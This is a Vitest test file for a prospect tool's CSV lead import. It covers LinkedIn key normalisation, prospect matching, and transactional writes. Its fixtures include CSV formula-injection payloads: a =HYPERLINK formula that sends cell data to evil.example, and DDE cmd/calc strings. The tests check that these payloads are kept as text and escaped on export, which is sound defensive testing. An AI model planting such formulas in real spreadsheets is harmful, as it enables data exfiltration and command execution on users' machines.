// Lead rows → prospects: cells kept as text (formula injection), LinkedIn URLs to the keys capture
// uses, match order (email > LinkedIn > name + company), what a list may change on a prospect, and
// the write: one transaction, and later Gmail / LinkedIn sightings landing on the imported record.
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { openDb, type SidelogDb } from '@/lib/db/db';
import { messagesCsv } from '@/lib/export/export';
import { ingestEvents } from '@/lib/ingest/ingest';
import { canonicalProfileUrl, personKeys } from '@/lib/records/keys';
import { guessMapping, sampleColumns } from '@/lib/leads/guess';
import { importLeadRows, previewLeadImport } from '@/lib/leads/import';
import { normCompany, normName, planLeadImport } from '@/lib/leads/match';
import { parseLeadText } from '@/lib/leads/parse';
import { buildLeads, cell, isFormulaLike, leadLinkedin, websiteDomain, type LeadRowOptions } from '@/lib/leads/rows';
import type { Prospect } from '@/lib/schema/model';
import Papa from 'papaparse';
import { T0, gmailSend, settings } from '../helpers/events';
import { prospectRow } from '../helpers/rows';

async function rowsOf(csv: string, opts: LeadRowOptions = {}) {
  const p = await parseLeadText(csv);
  const mapping = guessMapping(p.headers, sampleColumns(p.rows, p.headers.length));
  return buildLeads(p, mapping, opts);
}

describe('lead rows', () => {
  it('keeps formula-looking cells as plain text and reports them; numbers and phones are not formulas', async () => {
    const r = await rowsOf(
      'Name,Company,Email,Title,Note\n' +
        '"=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",Acme,ada@acme.com,"+cmd|\' /C calc\'!A0",keep\n' +
        'Bob,"@SUM(1+1)*cmd|\' /C calc\'!A0",bob@beta.io,-2+3,x\n' +
        'Cy,Gamma,cy@gamma.io,+44 20 7946 0958,-5\n',
    );
    expect(r.leads.map((l) => [l.name, l.company, l.title])).toEqual([
      ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', 'Acme', "+cmd|' /C calc'!A0"],
      ['Bob', "@SUM(1+1)*cmd|' /C calc'!A0", '-2+3'],
      ['Cy', 'Gamma', '+44 20 7946 0958'],
    ]);
    expect(r.formulas.map((f) => `${f.row}:${f.column}`)).toEqual(['2:Name', '2:Title', '3:Company', '3:Title']);
    expect(isFormulaLike('=1+1')).toBe(true);
    expect(isFormulaLike('\t=1')).toBe(true);
    expect(isFormulaLike('-5')).toBe(false);
    expect(isFormulaLike('+1 (555) 010-0000')).toBe(false);
  });

  it('reads LinkedIn URLs into the keys capture uses', () => {
    expect(leadLinkedin('http://www.linkedin.com/in/Ada-Lovelace')).toEqual({
      url: 'https://www.linkedin.com/in/ada-lovelace/',
      key: 'li:ada-lovelace',
      memberId: null,
    });
    expect(leadLinkedin('uk.linkedin.com/in/ken-o%E2%80%99brien-435896237?trk=x')?.key).toBe(
      'li:ken-o’brien-435896237',
    );
    expect(leadLinkedin('https://www.linkedin.com/in/ACoAAAB1cDeFgHiJkLmNoP')).toEqual({
      url: 'https://www.linkedin.com/in/ACoAAAB1cDeFgHiJkLmNoP/',
      key: 'lim:ACoAAAB1cDeFgHiJkLmNoP',
      memberId: 'ACoAAAB1cDeFgHiJkLmNoP',
    });
    // Sales Navigator's hashed ids open the profile but no capture ever sees them: no key.
    expect(leadLinkedin('https://www.linkedin.com/in/ACwAAAB1cDeFgHiJkLmNoP/')).toEqual({
      url: 'https://www.linkedin.com/in/ACwAAAB1cDeFgHiJkLmNoP/',
      key: null,
      memberId: null,
    });
    expect(leadLinkedin('https://www.linkedin.com/company/acme/')).toBeNull();
    expect(leadLinkedin('https://www.linkedin.com/sales/lead/ACwAAAB1,NAME_SEARCH,abc')).toBeNull();
    // The same keys and URL capture makes of the profile (lib/records/keys.ts).
    for (const u of [
      'https://www.linkedin.com/in/Ada-Lovelace/',
      'https://de.linkedin.com/in/j%C3%BCrgen-m%C3%BCller-7a1b2c/?originalSubdomain=de',
    ]) {
      expect(leadLinkedin(u)?.key).toBe(personKeys({ profileUrl: u }).find((k) => k.startsWith('li:')));
      expect(leadLinkedin(u)?.url).toBe(canonicalProfileUrl(u));
    }
    expect(websiteDomain('https://www.Acme.com/about')).toBe('acme.com');
    expect(cell('  N/A ')).toBeNull();
    expect(cell(' Chief   Wizard ')).toBe('Chief Wizard');
  });

  it('skips rows that identify no one, says why, and fills the lead source of rows without one', async () => {
    const r = await rowsOf(
      'First Name,Last Name,Company,Email,Lead Source\n' +
        'Ada,Lovelace,Acme,ADA@acme.com; ada.l@acme.com,Webinar\n' +
        'Bob,Stone,,not-an-email,\n' +
        ',,,,\n' +
        'Cy,Young,Gamma,,\n',
      { leadSource: 'Trade show' },
    );
    expect(r.leads.map((l) => [l.row, l.name, l.emails, l.traits])).toEqual([
      [2, 'Ada Lovelace', ['ada@acme.com', 'ada.l@acme.com'], { 'lead source': 'Webinar' }],
      [5, 'Cy Young', [], { 'lead source': 'Trade show' }],
    ]);
    expect(r.skipped).toEqual([{ row: 3, reason: 'no email, LinkedIn profile URL, or name and company' }]);
    expect(r.badEmails).toBe(1);
  });
});

describe('matching leads to prospects', () => {
  const lead = (over: Partial<Parameters<typeof planLeadImport>[0][number]> = {}) => ({
    row: 2,
    name: 'Ada Lovelace',
    emails: [] as string[],
    linkedin: null,
    company: null,
    title: null,
    industry: null,
    companySize: null,
    location: null,
    seniority: null,
    domain: null,
    headline: null,
    traits: {},
    ...over,
  });

  it('matches by email, then LinkedIn URL, then name + company, in that order', () => {
    const byEmail = prospectRow('p:email:ada@acme.com', {
      name: 'A. Lovelace',
      emails: ['ada@acme.com'],
      keys: ['email:ada@acme.com'],
    });
    const byLi = prospectRow('p:li:ada-lovelace', {
      name: 'Ada L',
      keys: ['li:ada-lovelace'],
      linkedinUrl: 'https://www.linkedin.com/in/ada-lovelace/',
    });
    const byName = prospectRow('p:x', { name: 'Dr. Ada Lovelace', company: 'ACME, Inc.', keys: [] });
    const stored = [byName, byLi, byEmail];
    const li = leadLinkedin('https://linkedin.com/in/ada-lovelace')!;
    const all = lead({ emails: ['ada@acme.com'], linkedin: li, company: 'Acme' });
    // Each lead is planned alone so each match is seen first.
    expect(planLeadImport([all], stored, T0).rows[0]).toMatchObject({
      kind: 'matched',
      prospectId: byEmail.id,
      by: 'email',
    });
    expect(planLeadImport([lead({ linkedin: li, company: 'Acme' })], stored, T0).rows[0]).toMatchObject({
      kind: 'matched',
      prospectId: byLi.id,
      by: 'linkedin',
    });
    expect(planLeadImport([lead({ company: 'acme' })], stored, T0).rows[0]).toMatchObject({
      kind: 'matched',
      prospectId: byName.id,
      by: 'name and company',
    });
    expect(planLeadImport([lead({ company: 'Beta' })], stored, T0).rows[0]).toMatchObject({ kind: 'new' });
    // The LinkedIn key of the email match belongs to another prospect: not added (one key, one person).
    const p = planLeadImport([all], stored, T0);
    expect(p.conflicts).toEqual([{ row: 2, value: li.url, prospectId: byLi.id }]);
    expect(p.writes.find((w) => w.id === byEmail.id)?.keys ?? byEmail.keys).not.toContain('li:ada-lovelace');
  });

  it('normalises names and companies (case, accents, titles, legal forms)', () => {
    expect(normName('Dr. José  Ñúñez, PhD')).toBe('jose nunez');
    expect(normCompany('The Bäckerei Müller GmbH')).toBe('backerei muller');
    expect(normCompany('ACME, Inc.')).toBe('acme');
    expect(normCompany('Inc')).toBe('inc');
  });

  it('refuses a name + company that names two prospects', () => {
    const stored = [
      prospectRow('p1', { name: 'Sam Lee', company: 'Acme' }),
      prospectRow('p2', { name: 'Sam Lee', company: 'ACME Ltd' }),
    ];
    const p = planLeadImport([lead({ name: 'Sam Lee', company: 'Acme' })], stored, T0);
    expect(p.rows[0]).toMatchObject({ kind: 'skipped', reason: expect.stringMatching(/match 2 prospects/) });
    expect(p.writes).toEqual([]);
  });

  it('fills what a prospect lacks, never overwrites, never touches fields set by hand, and says what it kept', () => {
    const stored = prospectRow('p:email:ada@acme.com', {
      name: 'ada',
      emails: ['ada@acme.com'],
      keys: ['email:ada@acme.com'],
      title: 'CTO',
      industry: null,
      company: null,
      location: null,
      manualFields: ['location'],
      traits: { 'lead source': 'Referral' },
    });
    const p = planLeadImport(
      [
        lead({
          emails: ['ada@acme.com', 'ada.l@acme.com'],
          title: 'VP Engineering',
          industry: 'Software',
          company: 'Acme',
          location: 'London',
          traits: { 'lead source': 'Apollo', campaign: 'Q3' },
        }),
      ],
      [stored],
      T0,
    );
    expect(p.matched).toBe(1);
    expect(p.enriched).toBe(1);
    const w = p.writes[0];
    expect(w).toMatchObject({
      name: 'Ada Lovelace',
      title: 'CTO',
      industry: 'Software',
      company: 'Acme',
      location: null,
      traits: { 'lead source': 'Referral', campaign: 'Q3' },
    });
    expect(w.emails).toEqual(['ada@acme.com', 'ada.l@acme.com']);
    expect(w.keys).toEqual(['email:ada@acme.com', 'email:ada.l@acme.com']);
    expect(p.kept.map((k) => `${k.field}: ${k.stored} / ${k.lead}`)).toEqual([
      'title: CTO / VP Engineering',
      'trait "lead source": Referral / Apollo',
    ]);
    // Nothing new: nothing to write.
    expect(planLeadImport([lead({ emails: ['ada@acme.com'], title: 'CTO' })], [w], T0)).toMatchObject({
      writes: [],
      matched: 1,
      enriched: 0,
    });
  });

  it('makes one prospect of rows of the same file that are one person', () => {
    const li = leadLinkedin('linkedin.com/in/bob-stone')!;
    const p = planLeadImport(
      [
        lead({ row: 2, name: 'Bob Stone', emails: ['bob@beta.io'] }),
        lead({ row: 3, name: 'Bob Stone', linkedin: li, emails: ['bob@beta.io'], title: 'CEO' }),
        lead({ row: 4, name: 'Bob Stone', company: null, linkedin: li }),
      ],
      [],
      T0,
    );
    expect(p.created).toBe(1);
    expect(p.duplicates).toBe(2);
    expect(p.rows.map((r) => `${r.row}:${r.kind}${r.of ? `:${r.of}` : ''}`)).toEqual([
      '2:new',
      '3:duplicate:2',
      '4:duplicate:2',
    ]);
    expect(p.writes).toHaveLength(1);
    expect(p.writes[0]).toMatchObject({
      id: 'p:email:bob@beta.io',
      title: 'CEO',
      keys: ['email:bob@beta.io', 'li:bob-stone'],
      linkedinUrl: li.url,
    });
  });
});

describe('writing a lead list', () => {
  let db: SidelogDb;
  let n = 0;
  beforeEach(async () => {
    db = openDb(`leads-${++n}`);
    await db.open();
  });
  afterEach(async () => {
    db.close();
    await db.delete();
  });
  const deps = () => ({ db, settings: settings(), now: () => T0 });

  it('writes in one transaction, as previewed; importing the same file again changes nothing', async () => {
    await ingestEvents(deps(), [gmailSend({ to: [{ email: 'ada@acme.com', name: 'Ada Lovelace' }] })]);
    const rows = await rowsOf(
      'Email,Full Name,Company,Title,Person Linkedin Url,Industry\n' +
        'ada@acme.com,Ada Lovelace,Acme,CTO,,Software\n' +
        'bob@beta.io,Bob Stone,Beta,CEO,https://www.linkedin.com/in/bob-stone,Retail\n' +
        ',Carl Cox,Gamma,,https://www.linkedin.com/in/ACwAAAB1cDeFgHiJkLmNoP,\n',
      { leadSource: 'Apollo' },
    );
    const preview = await previewLeadImport(db, rows, T0);
    expect(preview).toMatchObject({ created: 2, matched: 1, enriched: 1, skipped: [] });
    const r = await importLeadRows(db, rows, T0);
    expect(r.written).toBe(3);
    expect(r.plan.rows).toEqual(preview.rows);
    const all = await db.prospects.orderBy('id').toArray();
    expect(all.map((p) => [p.id, p.name, p.company, p.industry, p.traits['lead source'], p.stage])).toEqual([
      ['p:email:ada@acme.com', 'Ada Lovelace', 'Acme', 'Software', 'Apollo', 'contacted'],
      ['p:email:bob@beta.io', 'Bob Stone', 'Beta', 'Retail', 'Apollo', 'contacted'],
      ['p:lead:carl cox|gamma', 'Carl Cox', 'Gamma', null, 'Apollo', 'contacted'],
    ]);
    expect(all[1].keys).toEqual(['email:bob@beta.io', 'li:bob-stone']);
    expect(all[1].seniority).toBe('c-level');
    const again = await importLeadRows(db, rows, T0 + 1);
    expect(again.written).toBe(0);
    expect(again.plan).toMatchObject({ created: 0, matched: 3, enriched: 0 });
  });

  it('a failed write leaves nothing behind', async () => {
    const rows = await rowsOf('Email,Name\na@x.co,A\nb@x.co,B\n');
    const orig = db.prospects.bulkPut.bind(db.prospects);
    (db.prospects as unknown as { bulkPut: unknown }).bulkPut = async (items: Prospect[]) => {
      await orig(items.slice(0, 1));
      throw new Error('disk full');
    };
    await expect(importLeadRows(db, rows, T0)).rejects.toThrow('disk full');
    expect(await db.prospects.count()).toBe(0);
  });

  it('a later Gmail message or LinkedIn profile visit lands on the imported prospect', async () => {
    await importLeadRows(
      db,
      await rowsOf(
        'Email,Name,Company,LinkedIn\nada@acme.com,Ada Lovelace,Acme,\n,Bob Stone,Beta,https://www.linkedin.com/in/Bob-Stone/\n',
        { leadSource: 'Sales Navigator' },
      ),
      T0,
    );
    await ingestEvents(deps(), [
      gmailSend({ to: [{ email: 'ADA@acme.com', name: 'Ada' }] }),
      {
        eventId: 'v1',
        type: 'prospect',
        channel: 'linkedin',
        layer: 'dom',
        person: { profileUrl: 'https://www.linkedin.com/in/bob-stone/', name: 'Bob Stone' },
        title: 'Founder',
        company: 'Beta',
        location: 'Lyon',
        seenAt: T0,
      },
    ]);
    const all = await db.prospects.orderBy('id').toArray();
    expect(all.map((p) => p.id)).toEqual(['p:email:ada@acme.com', 'p:li:bob-stone']);
    const [thread] = await db.threads.toArray();
    expect(thread.prospectIds).toEqual(['p:email:ada@acme.com']);
    // The live profile is fresher than the list: capture updates what the list set.
    expect(all[1]).toMatchObject({ title: 'Founder', location: 'Lyon', traits: { 'lead source': 'Sales Navigator' } });
  });

  it('an Undo Send to an imported lead keeps the lead', async () => {
    await importLeadRows(db, await rowsOf('Email,Name\nada@acme.com,Ada\n', { leadSource: 'Apollo' }), T0);
    const send = gmailSend({ to: [{ email: 'ada@acme.com' }] });
    await ingestEvents(deps(), [send]);
    await ingestEvents(deps(), [
      { eventId: 'undo', type: 'retract', channel: 'gmail', layer: 'dom', externalId: send.externalId },
    ]);
    expect(await db.messages.count()).toBe(0);
    expect((await db.prospects.toArray()).map((p) => p.id)).toEqual(['p:email:ada@acme.com']);
  });

  it('an imported formula never reaches the messages CSV unescaped', async () => {
    await importLeadRows(
      db,
      await rowsOf('Email,Name,Company\nada@acme.com,"=HYPERLINK(""http://evil.example"",""x"")",@SUM(A1)\n'),
      T0,
    );
    await ingestEvents(deps(), [gmailSend({ to: [{ email: 'ada@acme.com' }] })]);
    const [m] = await db.messages.toArray();
    const p = (await db.prospects.toArray())[0];
    expect(p.name).toBe('=HYPERLINK("http://evil.example","x")');
    const csv = messagesCsv([m], new Map([[p.id, p]]));
    const [header, row] = Papa.parse<string[]>(csv).data;
    expect(row[header.indexOf('prospect')]).toBe(`'=HYPERLINK("http://evil.example","x")`);
    expect(row[header.indexOf('company')]).toBe(`'@SUM(A1)`);
  });
});
